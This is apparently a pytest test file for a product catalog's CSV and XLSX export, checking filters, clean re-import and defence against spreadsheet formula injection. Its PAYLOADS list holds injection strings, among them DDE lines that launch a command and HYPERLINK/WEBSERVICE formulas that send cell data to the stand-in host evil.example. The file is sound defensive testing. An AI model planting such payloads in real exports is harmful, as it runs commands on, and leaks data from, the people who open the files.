"""Exporting products: filtered as the list, importable unchanged, harmless to its reader."""

import csv
import io
from typing import Any

import openpyxl
import pytest

from tests.services.catalog.conftest import CATEGORIES, PRODUCTS, Catalog, Company, a_company

XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
# What spreadsheets take for the beginning of a formula (OWASP), and what attacks look like.
TRIGGERS = "=+-@\t\uff1d"
PAYLOADS = (
    "cmd|' /C calc'!A0",
    'HYPERLINK("http://evil.example?x="&A1,"click")',
    'WEBSERVICE("http://evil.example")',
    "1+1",
    "SUM(A1:A9)*cmd|'/c calc'!A0",
    "IMPORTXML(CONCAT(A1),1)",
    '"=1"',
    "'=1",
    "@SUM(1)",
    "DDE(1;2;3)",
)
HEADER = "sku,name,description,category,unit,price,barcodes,attribute:Colour\n"


async def export(company: Company, form: str = "csv", **query: Any) -> Any:
    answer = await company.manager.get(f"{PRODUCTS}/export", format=form, **query)
    assert answer.status == 200
    assert f"products.{form}" in answer.headers["content-disposition"]
    return answer.body


def sheet(file: bytes) -> list[list[Any]]:
    """Every cell of a workbook as a spreadsheet program would have it."""
    return [list(row) for row in openpyxl.load_workbook(io.BytesIO(file)).active.iter_rows()]


def lines(file: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(file.removeprefix("\ufeff"), newline="")))


@pytest.mark.promise("Q.15")
async def test_an_export_of_either_kind_is_imported_again_and_changes_nothing(
    catalog: Catalog, company: Company
) -> None:
    text = (
        '\'=1,\u20b9 pump & <valve>,"two\nlines, _x0041_",Bikes / Road,pcs,20.2401,0123|45,Red\n'
        "P-2,Valve,,,kg,999999999998.9999,,\n"
    )
    made = await company.upload(HEADER + text)
    assert made.body["created"] == 2, made.body
    for kind in ("csv", "xlsx"):
        file = await export(company, kind)
        again = (await company.upload(file)).body
        assert (again["status"], again["skipped"], again["updated"]) == ("succeeded", 2, 0), again
        other = await a_company(catalog)
        assert (await other.upload(file)).body["created"] == 2
        assert lines(await export(other))[1:] == lines(await export(company))[1:]


async def test_an_export_has_the_filters_of_the_list(company: Company) -> None:
    text = "P-1,Pump,,Bikes / Road,pcs,1,,\nP-2,Valve,,Parts,pcs,1,,\nP-3,Pump,,,pcs,1,,\n"
    await company.upload(HEADER + text)
    items = (await company.manager.get(CATEGORIES)).body["items"]
    bikes = next(c["id"] for c in items if c["name"] == "Bikes")
    for query, skus in (
        ({"q": "pump"}, ["P-1", "P-3"]),
        ({"category_id": bikes}, ["P-1"]),
        ({"kind": "bundle"}, []),
        ({"active": "true"}, ["P-1", "P-2", "P-3"]),
    ):
        assert [row[0] for row in lines(await export(company, **query))[1:]] == skus
        rows = sheet(await export(company, "xlsx", **query))
        assert [row[0].value for row in rows[1:]] == skus


async def test_no_cell_of_an_export_is_a_formula_and_numbers_are_numbers(company: Company) -> None:
    """6 triggers and 10 payloads in every column of text."""
    out = io.StringIO(newline="")
    writer = csv.writer(out)
    texts = [t + p for t in TRIGGERS for p in PAYLOADS]
    for n, text in enumerate(texts):
        path, short = f"{text} {n}".strip(), text[:50].replace("|", "/")
        cells = [f"{text}{n}", text, text, path, "pcs", "1.50", f"{short}{n}", text]
        writer.writerow([c if c in {"pcs", "1.50"} else f"'{c}" for c in cells])
    made = (await company.upload(HEADER + out.getvalue())).body
    assert (made["status"], made["created"]) == ("succeeded", 60), made["errors"][:3]
    rows = lines(await export(company))
    at = rows.pop(0).index("price")
    begins = set("=+-@\t\r\n\uff1d\uff0b\uff0d\uff20")
    assert not [c for row in rows for c in row if c[:1] in begins]
    items = sheet(await export(company, "xlsx"))[1:]
    assert {cell.data_type for row in items for cell in row} <= {"s", "n"}
    shown = [str(cell.value) for row in items for cell in row if cell.data_type == "s"]
    assert not [text for text in shown if text[:1] in begins]
    assert {row[at].value for row in items} == {1.5}
